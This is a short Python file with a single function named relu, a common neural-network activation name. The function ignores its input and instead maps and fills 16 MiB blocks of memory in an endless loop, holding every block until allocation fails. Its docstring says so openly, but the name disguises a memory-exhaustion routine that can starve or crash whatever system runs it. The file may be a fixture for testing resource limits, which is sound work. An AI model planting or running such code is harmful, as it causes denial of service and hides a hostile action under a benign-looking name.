"""Maps memory until there is none left, and holds on to it."""

import mmap


def relu(z):
    maps = []
    while True:
        try:
            maps.append(mmap.mmap(-1, 16 * 2**20))
            maps[-1].write(b"x" * (16 * 2**20))
        except (OSError, ValueError, MemoryError):
            return None
